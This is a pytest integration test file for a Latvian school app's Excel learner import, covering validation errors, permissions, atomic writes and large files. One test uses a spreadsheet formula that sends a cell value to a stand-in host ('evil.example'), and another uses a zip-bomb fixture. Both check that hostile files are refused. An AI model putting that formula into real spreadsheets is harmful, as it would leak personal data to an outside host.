"""Learner import from Excel, as real users: the template, a good file, every kind of bad row, formulas, a wrong
template, an empty file and a huge one — clear results, and nothing written unless everything is right."""

import io
import json
from datetime import date

import frappe
import pytest
from openpyxl import load_workbook

from pumpurs_app.registers.doctype.learner_import import importer
from pumpurs_app.registers.doctype.learner_import import learner_import as endpoints
from pumpurs_app.rules import learner_import as rules
from pumpurs_app.rules import personal_code
from tests.integration.learner_files import HEADINGS, learner_row, new_format_row, workbook
from tests.integration.learners import NOT_HERE, refusal_records
from tests.integration.world import notification
from tests.unit.hostile_files import zip_bomb

LEARNER = "Learner"
DOTTED = "pumpurs_app.registers.doctype.learner_import.learner_import"


def upload(content: bytes, file_name: str = "izglitojamie.xlsx") -> str:
	"""Upload a file as the current user, as the desk's file uploader does (a private File)."""
	return (
		frappe.get_doc(doctype="File", file_name=file_name, content=content, is_private=1).insert().file_url
	)


def check(content: bytes, file_name: str = "izglitojamie.xlsx") -> dict:
	return endpoints.check_file(upload(content, file_name))


def learners_named(prefix: str = "Imports") -> list[str]:
	return frappe.get_all(
		LEARNER, filters={"first_name": ("like", f"{prefix}%")}, pluck="name", order_by="name"
	)


def error_cells(summary: dict) -> list[tuple]:
	return [(error["row"], error["column"].split(" — ")[0]) for error in summary["errors"]]


def read_error_workbook(file_url: str) -> list[tuple]:
	content = frappe.get_doc("File", {"file_url": file_url}).get_content()
	sheet = load_workbook(io.BytesIO(content)).active
	return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


# --- the template -----------------------------------------------------------------------------------------


def template_institutions(content: bytes) -> list[str]:
	book = load_workbook(io.BytesIO(content))
	lists = book[rules.LISTS_SHEET]
	column = next(c for c in range(1, lists.max_column + 1) if lists.cell(1, c).value == "Izglītības iestāde")
	return [lists.cell(r, column).value for r in range(2, lists.max_row + 1) if lists.cell(r, column).value]


def test_template_lists_the_users_own_institutions(world, api):
	path = "/api/method/pumpurs_app.registers.doctype.learner_import.learner_import.download_template"
	school = api(world.user("a_coord")).request("GET", path)
	assert school.status == 200, school.text[:300]
	assert "izglitojamo-imports.xlsx" in school.headers.get("Content-Disposition", "")
	assert template_institutions(school.body) == [world.school_a]
	book = load_workbook(io.BytesIO(school.body))
	assert [cell.value for cell in book[rules.DATA_SHEET][1]] == [
		c.latvian + (" *" if c.required else "") for c in rules.COLUMNS
	]
	municipality = api(world.user("muni_coord")).request("GET", path)
	assert template_institutions(municipality.body) == sorted([world.school_a, world.school_b])
	# a teacher may read learners but not register them
	assert api(world.user("a_author")).request("GET", path).status == 403


def test_the_desk_loads_the_import_button_and_dialog(world, api):
	"""learner_list.js is where frappe looks for it: the Learner list gets "Import from Excel"."""
	response = api(world.user("a_coord")).call("frappe.desk.form.load.getdoctype", doctype=LEARNER)
	assert response.status == 200, response.text[:300]
	list_js = response.json["docs"][0]["__list_js"]
	assert 'add_inner_button(__("Import from Excel")' in list_js and ".check_file" in list_js
	assert "start_import" in list_js and "learner_import_progress" in list_js


# --- a good file --------------------------------------------------------------------------------------------


def test_a_good_file_is_checked_then_imported_whole(world, as_user):
	rows = [learner_row(world.school_a, i) for i in range(3)] + [new_format_row(world.school_a, 3)]
	before = frappe.db.count(LEARNER)
	with as_user(world.user("a_coord")):
		summary = check(workbook(rows))
		assert summary["status"] == "Validated" and summary["row_count"] == 4 and summary["errors"] == []
		assert frappe.db.count(LEARNER) == before  # checking writes nothing
		result = endpoints.start_import(summary["name"])
	assert result["status"] == "Imported" and result["imported_count"] == 4
	assert result["method"] == "bulk"
	assert frappe.db.count(LEARNER) == before + 4
	names = learners_named()
	first = frappe.get_doc(LEARNER, names[0])
	assert first.full_name == "Imports0 Kalniņa" and first.partner == world.municipality
	assert first.owner == world.user("a_coord") and first.status == "Active"
	assert first.personal_code_masked == personal_code.mask(first.personal_code)
	assert [(g.guardian_name, g.relation, g.phone) for g in first.guardians] == [
		("Inese Kalniņa", "Mother", "+371 26000000")
	]
	new_format = frappe.get_doc(LEARNER, names[3])
	assert str(new_format.date_of_birth) == "2018-03-01" and new_format.guardians == []
	# the import is on record, with its private file, and each learner's timeline names it
	record = frappe.get_doc("Learner Import", summary["name"])
	assert (record.status, record.row_count, record.imported_count, record.error_count) == (
		"Imported",
		4,
		4,
		0,
	)
	assert record.owner == world.user("a_coord") and record.duration > 0
	upload_file = frappe.get_doc("File", {"file_url": record.import_file})
	assert upload_file.is_private and upload_file.attached_to_name == record.name
	version = frappe.get_all("Version", filters={"ref_doctype": LEARNER, "docname": names[0]}, pluck="data")
	assert json.loads(version[0])["updater_reference"]["docname"] == record.name
	# a file cannot be imported twice
	with as_user(world.user("a_coord")), pytest.raises(frappe.ValidationError, match="cannot be imported"):
		endpoints.start_import(summary["name"])


def test_bulk_writing_stores_what_the_controller_stores(world, as_user):
	"""The bulk writer and ``doc.insert()`` per learner store the same rows; the controller, run again on what
	the bulk writer stored, changes nothing and frappe's own checks on save pass."""
	rows = [learner_row(world.school_b, i) for i in range(5)]
	rows += [new_format_row(world.school_b, 5, status="Pārcelts", consent_date=None, consent_given_by=None)]
	rows += [learner_row(world.school_b, 6, education_type="Profesionālā", grade=2, class_label="MT-21")]
	stored = {}
	queued = {}
	with as_user(world.user("muni_coord")):
		result = importer.check_content(workbook(rows))
		assert not result.errors, importer.error_rows(result.errors)
		for method in ("bulk", "controller"):
			frappe.cache.delete_value("global_search_queue")
			frappe.db.savepoint("compare")
			written = importer.write(result.records, "IMP-TEST", method=method)
			assert written.method == method and len(written.names) == 7 and not written.errors
			if method == "bulk":
				frappe.db.after_commit.run()  # what the commit would do: queue the learners for global search
			queued[method] = sorted(
				(json.loads(item)["title"], json.loads(item)["content"])
				for item in frappe.cache.lrange("global_search_queue", 0, -1)
			)
			if method == "bulk":
				for name in written.names:
					doc = frappe.get_doc(LEARNER, name)
					before = doc.as_dict()
					doc.run_method("validate")
					for field in importer.LEARNER_FIELDS:
						assert str(doc.get(field)) == str(before[field]), (name, field)
					doc.save()  # links, options, lengths, e-mail and phone checks of frappe itself
			stored[method] = comparable(written.names)
			frappe.db.rollback(save_point="compare")
	frappe.cache.delete_value("global_search_queue")
	for bulk, controller in zip(stored["bulk"], stored["controller"], strict=True):
		assert {k: v for k, v in bulk.items() if controller.get(k) != v} == {}, (
			bulk["first_name"],
			{k: v for k, v in controller.items() if bulk.get(k) != v},
		)
	assert queued["bulk"] == queued["controller"] and len(queued["bulk"]) == 7


def comparable(names: list[str]) -> list[dict]:
	"""Stored learners without what differs by nature (names, timestamps), guardians included; and the
	Version each got."""
	out = []
	for name in names:
		doc = frappe.get_doc(LEARNER, name)
		values = {k: str(v) for k, v in doc.as_dict(no_default_fields=True).items() if k != "guardians"}
		values["guardians"] = [
			{f: g.get(f) for f in (*importer.GUARDIAN_FIELDS, "idx", "parentfield", "parenttype", "owner")}
			for g in doc.guardians
		]
		values["owner"] = doc.owner
		version = frappe.get_all("Version", filters={"ref_doctype": LEARNER, "docname": name}, pluck="data")
		values["version"] = [json.loads(v)["updater_reference"] for v in version]
		out.append(values)
	return out


def test_bulk_names_follow_the_learner_series(world, as_user):
	with as_user(world.user("a_coord")):
		result = importer.check_content(workbook([learner_row(world.school_a, i) for i in range(3)]))
		names = importer.write(result.records, "IMP-TEST").names
		after = frappe.get_doc(
			doctype=LEARNER,
			first_name="Nākamais",
			last_name="Skolēns",
			institution=world.school_a,
			education_type="General",
			grade=8,
			personal_code=personal_code.make_old_format(date(2012, 2, 2), 900),
		).insert()
	numbers = [int(name.rsplit("-", 1)[1]) for name in [*names, after.name]]
	assert numbers == list(range(numbers[0], numbers[0] + 4))
	assert all(name.startswith("IZGL-") and len(name) == len(after.name) for name in names)


def test_automation_on_learners_makes_every_row_go_through_the_controller(world, as_user):
	notification("Jauns izglītojamais", LEARNER, "New", "Jauns izglītojamais {{ doc.full_name }}")
	try:
		assert importer.reasons_for_controller() == ["an enabled Notification on Learner"]
		logs = frappe.db.count("Notification Log", {"for_user": world.user("a_coord")})
		with as_user(world.user("a_coord")):
			summary = check(workbook([learner_row(world.school_a, i) for i in range(2)]))
			result = endpoints.start_import(summary["name"])
		assert result["status"] == "Imported" and result["method"] == "controller"
		assert (
			frappe.db.count("Notification Log", {"for_user": world.user("a_coord")}) == logs + 2
		)  # it ran for both
	finally:
		frappe.cache.hdel(
			"notifications", LEARNER
		)  # the rollback removes the notification, not frappe's cache of it


# --- bad files: every error, nothing written ---------------------------------------------------------------


def test_every_kind_of_bad_row_is_listed_and_nothing_is_written(world, as_user):
	a7_code = frappe.db.get_value(LEARNER, world.learners["a7"], "personal_code")
	school = world.school_a
	rows = [
		learner_row(school, 0),  # row 2: good
		learner_row(school, 1, personal_code="161175-19998"),  # 3: invalid code
		learner_row(school, 2, grade=13),  # 4: not a grade of general education
		learner_row(
			school, 3, education_type="Profesionālā", grade=2
		),  # 5: the school has no vocational programmes
		learner_row("Neesoša skola", 4),  # 6: unknown institution
		learner_row(world.vocational_school, 5, education_type="Profesionālā", grade=1),  # 7: not the user's
		learner_row(school, 6),  # 8: the same code again ...
		learner_row(school, 6, first_name="ImportsOtrreiz"),  # 9: ... as row 8
		learner_row(school, 7, personal_code=a7_code),  # 10: already an active learner
		learner_row(school, 8, last_name=None),  # 11: a required value missing
		learner_row(school, 9, consent_date="32.01.2025"),  # 12: not a date
		new_format_row(school, 10, date_of_birth=None),  # 13: new code, no birth date
		learner_row(school, 11, consent_date=date(2099, 1, 1)),  # 14: signed in the future
		learner_row(school, 12, guardian_email="nav-epasta"),  # 15: bad e-mail
	]
	before = frappe.db.count(LEARNER)
	with as_user(world.user("a_coord")):
		summary = check(workbook(rows))
		assert summary["status"] == "Invalid"
		assert error_cells(summary) == [
			(3, "C"),
			(4, "G"),
			(5, "F"),
			(6, "E"),
			(7, "E"),
			(8, "C"),
			(9, "C"),
			(10, "C"),
			(11, "B"),
			(12, "J"),
			(13, "D"),
			(14, "J"),
			(15, "O"),
		]
		reasons = {error["row"]: error["reason"] for error in summary["errors"]}
		assert reasons[3] == "161175-19998 is not a valid Latvian personal code."
		assert (
			reasons[7]
			== f"{world.vocational_school} is not one of your institutions, so you cannot register learners there."
		)
		assert (
			reasons[10]
			== f"An active learner with personal code {a7_code} is already registered at {school}."
		)
		assert reasons[11] == "A value is required."
		assert summary["errors"][0]["column"] == "C — Personal Code"
		with pytest.raises(
			frappe.ValidationError, match=r"^This file cannot be imported: its status is Invalid\.$"
		):
			endpoints.start_import(summary["name"])
	assert frappe.db.count(LEARNER) == before and learners_named() == []
	record = frappe.get_doc("Learner Import", summary["name"])
	assert (record.status, record.row_count, record.error_count, record.imported_count) == (
		"Invalid",
		14,
		13,
		0,
	)
	workbook_rows = read_error_workbook(record.error_file)
	assert workbook_rows[0] == ("Row in File", "Column in File", "Value in File", "Error Found")
	assert workbook_rows[1] == (
		3,
		"C — Personal Code",
		"161175-19998",
		"161175-19998 is not a valid Latvian personal code.",
	)
	assert len(workbook_rows) == 14


def test_errors_in_latvian(world, as_user):
	with as_user(world.user("a_coord"), lang="lv"):
		summary = check(workbook([learner_row(world.school_a, 0, personal_code="161175-19998", grade=13)]))
		workbook_rows = read_error_workbook(summary["error_file"])
	assert [(e["column"], e["reason"]) for e in summary["errors"]] == [
		("C — Personas kods", "161175-19998 nav derīgs Latvijas personas kods."),
		("G — Klase / kurss", "13. klase/kurss nav iespējams izglītības veidā “Vispārējā” (atļauts 1–12)."),
	]
	assert workbook_rows[0] == ("Rinda failā", "Kolonna failā", "Vērtība failā", "Atrastā kļūda")


def test_a_user_cannot_import_into_another_institution(world, as_user):
	with as_user(world.user("vet_coord")):
		summary = check(workbook([learner_row(world.school_a, 0)]))
	assert summary["status"] == "Invalid"
	assert [e["reason"] for e in summary["errors"]] == [
		f"{world.school_a} is not one of your institutions, so you cannot register learners there."
	]
	# someone who may not register learners cannot even have a file checked (another row than above: a
	# workbook written in the same second has the same bytes, and frappe would give them the file above,
	# which is not theirs to attach)
	with (
		as_user(world.user("a_author")),
		pytest.raises(frappe.PermissionError, match=r"^You are not allowed to register learners\.$"),
	):
		check(workbook([learner_row(world.school_a, 1)]))


def test_a_learner_registered_after_the_check_stops_the_import(world, as_user):
	rows = [learner_row(world.school_a, i) for i in range(3)]
	with as_user(world.user("a_coord")):
		summary = check(workbook(rows))
		assert summary["status"] == "Validated"
		frappe.get_doc(
			doctype=LEARNER,
			first_name="Pa",
			last_name="Vidu",
			institution=world.school_a,
			education_type="General",
			grade=7,
			personal_code=rows[1]["personal_code"],
		).insert()
		result = endpoints.start_import(summary["name"])
	assert result["status"] == "Invalid" and error_cells(result) == [(3, "C")]
	assert learners_named() == []


def test_a_clash_while_writing_leaves_nothing_behind(world, as_user):
	"""The database's unique key still guards against a learner registered between the check and the write."""
	rows = [learner_row(world.school_a, i) for i in range(3)]
	with as_user(world.user("a_coord")):
		records = importer.check_content(workbook(rows)).records
		frappe.get_doc(
			doctype=LEARNER,
			first_name="Pa",
			last_name="Vidu",
			institution=world.school_a,
			education_type="General",
			grade=7,
			personal_code=rows[2]["personal_code"],
		).insert()
		with pytest.raises(Exception, match="Duplicate entry '.+' for key 'active_personal_code'") as clash:
			importer.write(records, "IMP-TEST")
	assert frappe.db.is_unique_key_violation(clash.value)
	assert learners_named() == []
	assert "Another user registered" in endpoints._failure(clash.value)


def test_an_import_that_breaks_down_is_recorded_as_failed(world, as_user):
	with as_user(world.user("a_coord")):
		summary = check(workbook([learner_row(world.school_a, i) for i in range(2)]))
	record = frappe.get_doc("Learner Import", summary["name"])
	frappe.delete_doc("File", frappe.db.get_value("File", {"file_url": record.import_file}), force=True)
	with as_user(world.user("a_coord")):
		result = endpoints.start_import(summary["name"])
	assert result["status"] == "Failed" and result["message"].startswith(
		"The import failed and nothing was imported"
	)
	assert learners_named() == []
	assert frappe.db.get_value("Learner Import", summary["name"], "status") == "Failed"


def test_formulas_are_refused_and_neutralised_in_the_error_workbook(world, as_user):
	rows = [learner_row(world.school_a, 0), learner_row(world.school_a, 1)]
	formulas = {(0, "last_name"): '=HYPERLINK("http://evil.example/?"&C2,"Kalniņa")', (1, "grade"): "=3+4"}
	with as_user(world.user("a_coord")):
		summary = check(workbook(rows, formulas=formulas))
	assert summary["status"] == "Invalid" and error_cells(summary) == [(2, "B"), (3, "G")]
	assert (
		summary["errors"][1]["reason"]
		== "The cell holds a formula (=3+4); type the value itself. Formulas are not evaluated."
	)
	assert learners_named() == []
	content = frappe.get_doc("File", {"file_url": summary["error_file"]}).get_content()
	sheet = load_workbook(io.BytesIO(content)).active
	values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
	assert all(cell.data_type != "f" for cell in values)  # nothing in the error workbook is a formula
	assert sheet["C2"].value == "'" + formulas[(0, "last_name")] and sheet["C3"].value == "'=3+4"


def test_wrong_template_empty_file_and_not_a_workbook(world, as_user):
	with as_user(world.user("a_coord")):
		bank = check(workbook([{"first_name": "x"}], headings=["Datums", "Summa", "Saņēmējs"]))
		assert bank["status"] == "Invalid" and [e["reason"] for e in bank["errors"]] == [
			"This is not the learner import template: row 1 has none of its column headings. Download the template and fill it in."
		]
		no_code = check(
			workbook([learner_row(world.school_a, 0)], headings=[h for h in HEADINGS if h != "Personas kods"])
		)
		assert [e["reason"] for e in no_code["errors"]] == ["Column Personal Code is missing from the file."]
		empty = check(rules.build_template([world.school_a], latvian=lambda text: text, rows=10))
		assert [e["reason"] for e in empty["errors"]] == [
			"The file has no learners: fill in the rows under the headings."
		]
		csv_file = check("Vārds;Uzvārds\nAnna;Ozola\n".encode(), file_name="izglitojamie.csv")
		assert [e["reason"] for e in csv_file["errors"]] == [
			"The file is not an Excel workbook (.xlsx). Use the template."
		]
		assert [e["row"] for e in csv_file["errors"]] == [None]
	assert learners_named() == [] and learners_named("x") == []
	assert frappe.get_doc("Learner Import", csv_file["name"]).status == "Invalid"


def test_a_workbook_that_would_exhaust_memory_is_refused_and_nothing_is_written(world, as_user):
	"""A zip bomb of a few kilobytes declaring a sheet of 16,384 columns and a million rows (reading it would
	walk 26 million padded cells): refused before it is read, in the user's language, and nothing imported."""
	bomb = zip_bomb(HEADINGS)
	before = frappe.db.count(LEARNER)
	with as_user(world.user("a_coord")):
		summary = check(bomb)
		assert summary["status"] == "Invalid" and summary["row_count"] == 0
		assert [(e["row"], e["reason"]) for e in summary["errors"]] == [
			(
				None,
				"A sheet of the workbook declares its size as A1:XFD1048576, larger than is read (at most 50001 rows"
				" and 64 columns). Delete the rows and columns after the data, also empty formatted ones, or split"
				" the file, and upload it again.",
			)
		]
		with pytest.raises(frappe.ValidationError, match="its status is Invalid"):
			endpoints.start_import(summary["name"])
	with as_user(world.user("a_coord"), lang="lv"):
		latvian = check(bomb)
	assert latvian["errors"][0]["reason"].startswith(
		"Kāda darbgrāmatas lapa norāda savu izmēru A1:XFD1048576 — lielāku, nekā tiek nolasīts (ne vairāk kā"
		" 50001 rindas un 64 kolonnas)."
	)
	assert frappe.db.count(LEARNER) == before and learners_named() == []
	assert frappe.get_doc("Learner Import", summary["name"]).status == "Invalid"


def test_a_huge_file(world, as_user):
	"""20,000 learners: checked whole, imported in the background job, all of them; and with one bad row at
	the very end, none of them."""
	schools = [world.school_a, world.school_b]
	rows = [learner_row(schools[i % 2], i) for i in range(20_000)]
	content = workbook(rows)
	before = frappe.db.count(LEARNER)
	with as_user(world.user("muni_coord")):
		bad = check(workbook([*rows[:-1], learner_row(world.school_a, 19_999, grade="septītā")]))
		assert (
			bad["status"] == "Invalid" and bad["row_count"] == 20_000 and error_cells(bad) == [(20_001, "G")]
		)
		assert frappe.db.count(LEARNER) == before
		summary = check(content)
		assert summary["status"] == "Validated" and summary["row_count"] == 20_000
		started = endpoints.start_import(summary["name"])
		assert started["background"]  # more than INLINE_ROWS: a background job (run at once in tests)
		result = endpoints.get_status(summary["name"])
	assert result["status"] == "Imported" and result["imported_count"] == 20_000
	assert frappe.db.count(LEARNER) == before + 20_000
	assert (
		frappe.db.count(LEARNER, {"institution": world.school_b, "first_name": ("like", "Imports%")})
		== 10_000
	)
	assert frappe.db.count("Learner Guardian", {"guardian_name": "Inese Kalniņa"}) >= 20_000


def test_the_desks_requests_end_to_end(world, api):
	"""Upload, check and import through HTTP as the dialog does; each request commits on its own, so what a
	request writes is cleaned up at the end."""
	client = api(world.user("a_coord"))
	method = f"/api/method/{DOTTED}"

	def upload_over_http(content: bytes) -> str:
		response = client.request(
			"POST",
			"/api/method/upload_file",
			data={"is_private": "1", "file": (io.BytesIO(content), "izglitojamie.xlsx")},
			content_type="multipart/form-data",
		)
		assert response.status == 200, response.text[:300]
		return response.message["file_url"]

	rows = [learner_row(world.school_a, 900 + i, first_name=f"ImportsHttp{i}") for i in range(3)]
	try:
		bad = client.post(
			f"{method}.check_file", {"file_url": upload_over_http(workbook([*rows, {**rows[0]}]))}
		)
		assert bad.status == 200 and bad.message["status"] == "Invalid"
		assert [e["row"] for e in bad.message["errors"]] == [2, 5]  # the same person twice
		assert client.post(f"{method}.start_import", {"learner_import": bad.message["name"]}).status == 417
		good = client.post(f"{method}.check_file", {"file_url": upload_over_http(workbook(rows))}).message
		assert good["status"] == "Validated"
		assert (
			client.get(f"{method}.start_import", {"learner_import": good["name"]}).status == 403
		)  # POST only
		# another coordinator cannot start someone else's import
		assert (
			api(world.user("muni_coord"))
			.post(f"{method}.start_import", {"learner_import": good["name"]})
			.status
			== 403
		)
		imported = client.post(f"{method}.start_import", {"learner_import": good["name"]}).message
		assert imported["status"] == "Imported" and imported["imported_count"] == 3
		listed = client.get(
			"/api/resource/Learner", {"filters": [["first_name", "like", "ImportsHttp%"]], "limit": 10}
		).data
		assert len(listed) == 3  # committed by the request, visible to the coordinator
		status = client.call(f"{DOTTED}.get_status", learner_import=good["name"])
		assert status.status == 200 and status.message["status"] == "Imported", status.text[:500]
		assert (
			api(world.user("b_director")).call(f"{DOTTED}.get_status", learner_import=good["name"]).status
			== 403
		)
	finally:
		frappe.db.rollback()  # see what the requests committed
		names = frappe.get_all(LEARNER, filters={"first_name": ("like", "ImportsHttp%")}, pluck="name")
		if names:
			frappe.db.delete("Learner Guardian", {"parent": ("in", names)})
			frappe.db.delete("Version", {"ref_doctype": LEARNER, "docname": ("in", names)})
			frappe.db.delete(LEARNER, {"name": ("in", names)})
		imports = frappe.get_all("Learner Import", filters={"owner": world.user("a_coord")}, pluck="name")
		for name in imports:
			frappe.delete_doc("Learner Import", name, force=True, ignore_permissions=True)
		frappe.db.commit()


def test_a_row_active_elsewhere_says_neither_where_nor_that_it_is(world, api):
	"""Whether a child is in the programme is theirs to keep: the row is refused with the same words as the
	Learner form, and the case goes to those who see both institutions."""
	from frappe.deferred_insert import save_to_db

	client = api(world.user("a_coord"))
	active = frappe.get_doc(LEARNER, world.learners["v1"])
	save_to_db()  # (anything an earlier test left in the queue)
	upload = client.upload(
		"izglitojamie.xlsx", workbook([learner_row(world.school_a, 950, personal_code=active.personal_code)])
	)
	try:
		response = client.post(f"/api/method/{DOTTED}.check_file", {"file_url": upload})
		assert response.status == 200, response.text[:300]
		summary = response.message
		assert summary["status"] == "Invalid"
		assert [(e["row"], e["reason"]) for e in summary["errors"]] == [(2, NOT_HERE)]
		frappe.db.rollback()  # see what the request committed
		workbook_text = " ".join(
			str(cell) for row in read_error_workbook(summary["error_file"]) for cell in row if cell
		)
		for text in (response.text, workbook_text):
			assert world.vocational_school not in text and active.name not in text
			assert "already" not in text and "another institution" not in text
		notified, audit = refusal_records(active.name)
		assert world.user("ikvd_admin") in notified and world.user("vet_coord") not in notified
		assert [entry.user for entry in audit] == [world.user("a_coord")]
		for text in [*notified.values(), *(entry.subject for entry in audit)]:
			assert active.personal_code not in text and world.school_a in text
	finally:
		frappe.db.rollback()
		for name in frappe.get_all("Learner Import", filters={"owner": world.user("a_coord")}, pluck="name"):
			frappe.delete_doc("Learner Import", name, force=True, ignore_permissions=True)
		frappe.db.commit()


@pytest.mark.parametrize(
	"address",
	[
		"ilze@example.lv",
		"Ilze.Berzina+skola@Example.LV",
		"o'brien@example.ie",
		"a{b}|c~d@sub.example.lv",
		"a@b.c",  # too short for frappe's check_format, matched by its pattern all the same
		"undisclosed-recipients@example.lv",
		"ilze@example",
		"ilze@@example.lv",
		".ilze@example.lv",
		"ilze.@example.lv",
		"ilze@example.lv extra",
		"ilze@example.lv, janis@example.lv",
		"Ilze <ilze@example.lv>",
		"ilze@example.lv.",
		"ilze@-example.lv",
		"ilze(at)example.lv",
		"ilze@exam_ple.lv",
		"ilzē@example.lv",
		"",
	],
)
def test_guardian_emails_are_judged_as_frappe_judges_them(site, address):
	"""The import's quick acceptance of a plain address gives frappe's own answer."""
	frappes = bool(frappe.utils.validate_email_address(address)) and "," not in address
	assert importer._is_email(address) == frappes
